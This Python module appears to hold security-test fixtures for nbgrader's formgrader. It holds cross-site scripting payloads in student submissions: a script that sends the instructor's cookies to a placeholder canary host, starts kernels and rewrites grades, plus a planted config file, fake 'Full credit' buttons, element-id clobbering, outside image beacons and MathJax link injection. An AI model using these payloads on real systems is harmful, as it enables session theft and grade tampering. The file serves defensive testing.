"""Attacks on the browser of whoever grades by hand: logged in, with kernels, marks and a gradebook within reach.

`@CANARY@` becomes a server that must hear nothing, `@SERVER@` the instructor's own Jupyter Server, `@STUDENT@` the
attacker's name there, `@SUBMISSION@` the number of the submission in formgrader.
"""
# ruff: noqa: E501 (attackers write long lines)

from __future__ import annotations

from dataclasses import dataclass, field
from urllib.parse import quote

# Starts a kernel, gives full marks, and sends the cookies away.
SCRIPT = """
document.title = 'owned';
fetch('@CANARY@/stolen?' + encodeURIComponent(document.cookie), {mode: 'no-cors'});
const headers = {'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1], 'Content-Type': 'application/json'};
fetch('@SERVER@/api/kernels', {method: 'POST', headers, body: '{}'});
for (const name of ['adding']) fetch('@SERVER@/formgrader/api/submitted_notebooks/tiny/' + name).then(r => r.json()).then(all => all.forEach(one =>
  fetch('@SERVER@/formgrader/api/grades?submission_id=' + one.id).then(r => r.json()).then(grades => grades.forEach(grade =>
    fetch('@SERVER@/formgrader/api/grade/' + grade.id, {method: 'PUT', headers, body: JSON.stringify({manual_score: 77})})))));
"""
LINE = " ".join(SCRIPT.split())
PAGE = f"<!doctype html><title>figure</title><p>The figure</p><script>{SCRIPT}</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[{SCRIPT}]]></script></svg>'
XHTML = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[{SCRIPT}]]></script></body></html>'
STYLED = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,"?><a xmlns:x="http://www.w3.org/1999/xhtml"><x:script><![CDATA[{SCRIPT}]]></x:script></a>'
CONFIG = "import urllib.request\nurllib.request.urlopen('@CANARY@/ran-a-configuration')\n"


@dataclass(frozen=True)
class PageAttack:
    """What a student hands in, and where the instructor is led.

    Parameters
    ----------
    name : str
    texts : tuple of str
        Markdown: the first is the answer that is graded by hand, each other one a cell behind it.
    files : dict of str to str
        Files beside the notebook.
    visits : tuple of str
        Addresses on the instructor's server that a link, or a page elsewhere, leads to.
    code : str
        Source of a code cell that shows something.
    named : str
        Last name of the student.
    """

    name: str
    texts: tuple[str, ...] = ()
    files: dict[str, str] = field(default_factory=dict)
    visits: tuple[str, ...] = ()
    code: str = ""
    named: str = ""


def everywhere(name: str) -> tuple[str, ...]:
    """Return the addresses under which Jupyter and nbgrader serve a file of a submission."""
    return (
        f"formgrader/submissions/@SUBMISSION@/{name}",
        f"files/autograded/@STUDENT@/tiny/{name}",
        f"view/submitted/@STUDENT@/tiny/{name}",
    )


LINKS = [
    PageAttack("a page beside the notebook", ("[the figure](figure.html)",), {"figure.html": PAGE}, everywhere("figure.html")),
    PageAttack("a drawing beside the notebook", ("[the plot](plot.svg) ![](plot.svg)",), {"plot.svg": SVG}, everywhere("plot.svg")),
    PageAttack("a page of XML", ("<a href=./more/page.xhtml>table</a>",), {"more/page.xhtml": XHTML, "a.xml": STYLED},
               (*everywhere("more/page.xhtml"), *everywhere("a.xml")[:2])),
    PageAttack("a page in capitals, from above", ("[a](../tiny/FIGURE.HTM) [b][c]\n\n[c]: FIGURE.HTM",), {"FIGURE.HTM": PAGE},
               ("formgrader/submissions/@SUBMISSION@/%46IGURE.HTM", "files/%61utograded/@STUDENT@/tiny/FIGURE.HTM")),
    PageAttack("a link like a button", (
        '<a class="btn btn-success btn-sm full-credit" href="figure.html">Full credit</a> <button class="btn full-credit" onclick="location=\'figure.html\'">Full credit</button>'
        '<form action="figure.html"><input type="submit" class="btn" value="Full credit"></form><label for="why">Full credit</label>',), {"figure.html": PAGE}),
    PageAttack("links to the server itself", (
        "[a](@SERVER@/formgrader/submissions/@STUDENT@/figure.html) <a href='//127.0.0.1/x'>b</a> [c](/files/submitted/@STUDENT@/tiny/figure.html) [d](http://0x7f.1/) [e](http://2130706433/)"
        " <a href='http:\\\\127.0.0.1'>f</a> [g](http://localhost.:80/) [h](http://user@localhost/) <a href='\x01javascript:alert(1)'>i</a> [j](data:text/html,x) [k](\\\\127.0.0.1/x) [l](http://[::1]/)",),
        {"figure.html": PAGE}),
    PageAttack("the notebook itself, converted", ("x",), code="from IPython.display import HTML, display\n"
               f"display(HTML('''<script>{LINE}</script>'''))", visits=(
               "nbconvert/html/submitted/@STUDENT@/tiny/adding.ipynb", "nbconvert/html/autograded/@STUDENT@/tiny/adding.ipynb",
               "nbconvert/slides/%73ubmitted/@STUDENT@/tiny/adding.ipynb")),
    PageAttack("a course folder of the student's own", ("[next](/formgrader?path=submitted/@STUDENT@/tiny) [d](?path=.)",), {"nbgrader_config.py": CONFIG},
               ("formgrader?path=submitted/@STUDENT@/tiny", "formgrader/?path=autograded/@STUDENT@/tiny", "formgrader?path=x/../submitted/@STUDENT@/tiny",
                "formgrader?path=submitted//./@STUDENT@/tiny/")),
    PageAttack("scripts in the address", visits=(
        f"formgrader/manage_students/{quote(chr(34) + ';' + LINE + '//', safe='')}",
        f"formgrader/gradebook/{quote('</script><script>' + LINE.replace('/', chr(92) + 'x2f') + '</script>', safe='')}",
        f"formgrader/gradebook/%5C/{quote(';' + LINE + '//', safe='')}",
        f"formgrader/manage_submissions/{quote('<img src=x onerror=' + chr(34) + LINE.replace(chr(34), '') + chr(34) + '>', safe='')}")),
    PageAttack("a name that is a page", ("x",), named=f"<script>{LINE}</script><img src=x onerror=\"{LINE}\">", visits=(
        "formgrader/submissions/@SUBMISSION@/", "formgrader/api/students", "formgrader/api/student/@STUDENT@", "formgrader/manage_students",
        "formgrader/api/submissions/tiny", "formgrader/gradebook/tiny/adding", "formgrader/manage_submissions/tiny")),
]  # fmt: skip

NAMES = [
    PageAttack("a heading with the name of a test", ('Why?\n\n<h6 id="test_add_hidden">Because.</h6> <h6 id="test_add_visible">Because.</h6>',)),
    PageAttack("other elements with such names", (
        '<a id=test_add_hidden name=test_add_hidden>x</a> <span ID="test_add_visible">x</span><div id=why><p id="why-comment"></p></div><details id=test_add_hidden></details><table id=test_add_hidden></table>',)),
    PageAttack("names that Markdown makes", ("# test_add_hidden {#test_add_hidden}\n\n[test_add_hidden]: x\n\n[^test_add_hidden] [a](#test_add_hidden)\n\n[^test_add_hidden]: x",
                                             "# test_add_hidden\n\n## test_add_visible")),
    PageAttack("fields and buttons of the student's own", (
        '<div class="nbgrader_cell panel"><input class="score tabbable" id=test_add_hidden><button class="full-credit">Full credit</button><textarea class=comment></textarea></div>'
        '<span class="score-saved">x</span><img id=test_add_hidden class=score src="data:image/png;base64,AAAA"><label for="test_add_hidden">x</label>',)),
    PageAttack("names given by outputs", code="kernel = get_ipython().kernel\n"
               "def show(data, metadata={}):\n    kernel.session.send(kernel.iopub_socket, 'display_data', {'data': data, 'metadata': metadata}, parent=kernel.get_parent())\n"
               "tag = '<h6 id=\"test_add_hidden\" class=\"score\">x</h6>'\n"
               "show({'text/markdown': tag}); show({'text/latex': tag}); show({'text/html': tag}); show({'text/plain': tag})\n"
               "show({'image/png': 'iVBORw0KGgo='}, {'image/png': {'width': '1 id=test_add_hidden', 'alt': '\" id=\"test_add_hidden'}, 'alt': '\" id=\"test_add_hidden'})\n"
               "show({'application/vnd.jupyter.widget-view+json': {'model_id': 'test_add_hidden'}, 'text/plain': tag})\n"
               "print(tag)\nprint('\\x1b[38;2;1;2;3 id=test_add_hidden m')\nraise ValueError(tag)"),
]  # fmt: skip

PICTURES = [
    PageAttack("pictures from elsewhere", (
        "![](@CANARY@/a.png) ![x][y] <img src='@CANARY@/b.png'> <img srcset='@CANARY@/c.png 1x'> <IMG SRC=@CANARY@/d.png width=1 height=1>\n\n[y]: @CANARY@/e.png",)),
    PageAttack("pictures in other tags", (
        "<picture><source srcset='@CANARY@/a'><img></picture><video poster='@CANARY@/b' src='@CANARY@/c' autoplay></video><audio src='@CANARY@/d' autoplay></audio>"
        "<input type=image src='@CANARY@/e'><table background='@CANARY@/f'><tr><td background='@CANARY@/g'>x</td></tr></table><svg><image href='@CANARY@/h'/><use href='@CANARY@/h#a'/></svg>"
        "<object data='@CANARY@/i'></object><embed src='@CANARY@/j'><iframe src='@CANARY@/k'></iframe><math><mglyph src='@CANARY@/l'/></math><track src='@CANARY@/m'>",)),
    PageAttack("pictures in styles", (
        "<p style=\"background: url('@CANARY@/a')\">x</p><style>@import '@CANARY@/b'; * { background: url('@CANARY@/c') !important }</style><link rel=stylesheet href='@CANARY@/d'>"
        "<link rel=prefetch href='@CANARY@/e'><link rel=icon href='@CANARY@/f'><div style=\"list-style: url(@CANARY@/g); display: list-item\">x</div><meta http-equiv=refresh content='0;url=@CANARY@/h'>",)),
    PageAttack("pictures within pictures", (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@CANARY@/a'/></svg>\"> ![](data:image/svg+xml;base64,PHN2Zy8+) <a href='https://example.org' ping='@CANARY@/b'>x</a>"
        "<img src='attachment:@CANARY@/c'> ![](attachment:x\"onerror=\"alert(1)) ![a](attachment:missing.png)",)),
    PageAttack("pictures in outputs", code="kernel = get_ipython().kernel\n"
               "def show(**data):\n    kernel.session.send(kernel.iopub_socket, 'display_data', {'data': {k.replace('_', '/'): v for k, v in data.items()}, 'metadata': {}}, parent=kernel.get_parent())\n"
               "show(text_markdown='![](@CANARY@/a) <img src=@CANARY@/b>')\nshow(text_latex='<img src=@CANARY@/c>')\nshow(text_html='<img src=@CANARY@/d>')\nprint('<img src=@CANARY@/e>')"),
]  # fmt: skip

# What MathJax must not make of formulas; without MathJax there is nothing to see.
FORMULAS = [
    PageAttack("links in formulas", (r"$\href{javascript:document.title='owned'}{x}$ $\href1{x}$ $$\mmlToken{mi}[href=&quot;javascript:document.title='owned'&quot;]{y}$$ &#92;(\href{@CANARY@/a}{x}\\) $&#92;href{@CANARY@/b}{x}$",)),
    PageAttack("names and looks in formulas", (
        r"$\cssId{test_add_hidden}{x}$ $\class{score}{x}$ $\style{position:fixed;top:0;left:0;width:9999px;height:9999px}{x}$ $\mmlToken{mi}[id='test_add_hidden' class='score']{x}$ $\bbox[border:9px solid red;position:fixed;top:0]{x}$ $\toggle{a}{b}\endtoggle$",)),
    PageAttack("commands made of commands", (
        r"$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\frac{1}{2}}\a$ $\newcommand{\frac}[2]{owned}\renewcommand\sum{owned}$ $\let\alpha\href \alpha{javascript:1}{x}$ $\require{html}\gdef\x{\cssId}\x{test_add_hidden}{x}$ $\DeclareMathOperator{\beta}{owned}$",
        r"$\beta + \frac{1}{2} + \sum_i \alpha$")),
    PageAttack("text over the page", (r"$\raise 40em{\rlap{\Huge\text{Full credit given}}}$ $\hspace{-30em}\text{Full credit given}$ $\kern-500px\rule{9999px}{9999px}$",)),
]  # fmt: skip
